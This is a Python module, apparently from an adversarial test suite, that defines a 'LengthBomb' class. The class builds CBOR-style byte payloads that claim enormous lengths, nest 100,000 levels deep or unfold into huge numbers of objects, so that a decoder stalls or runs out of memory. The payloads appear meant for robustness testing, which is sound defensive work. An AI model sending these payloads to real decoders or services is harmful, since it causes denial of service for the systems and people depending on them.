from collections.abc import Sequence

from sapo_adversary.attacks.bomb import Bomb
from sapo_adversary.attacks.forms import ARRAY, BYTES, MAP, TEXT, head
from sapo_adversary.attacks.kit import Kit

CLAIM = 2**40
"""Bytes or items that a head promises."""


class LengthBomb(Bomb):
    """A few bytes claim, nest or unfold into more than a machine has, so that whoever decodes them stalls or runs out
    of memory.
    """

    id = "length-bomb"
    layer = "wire"

    def __init__(self, kit: Kit, *, depth: int = 100_000, items: int = 400_000) -> None:
        """`depth` of nesting; `items` of one byte each, which become objects of many."""
        super().__init__(kit)
        self._bombs = (
            head(ARRAY, items) + b"\xa0" * items,
            b"\x81" * depth + b"\x80",
            b"\xa1\x60" * depth + b"\xa0",
            b"\x9f" * depth + b"\xff" * depth,
            *(head(major, CLAIM) for major in (BYTES, TEXT, ARRAY, MAP)),
            head(ARRAY, CLAIM) * 8,
        )

    def bombs(self) -> Sequence[bytes]:
        """An item a byte, three kinds of nesting, promises of each type."""
        return self._bombs
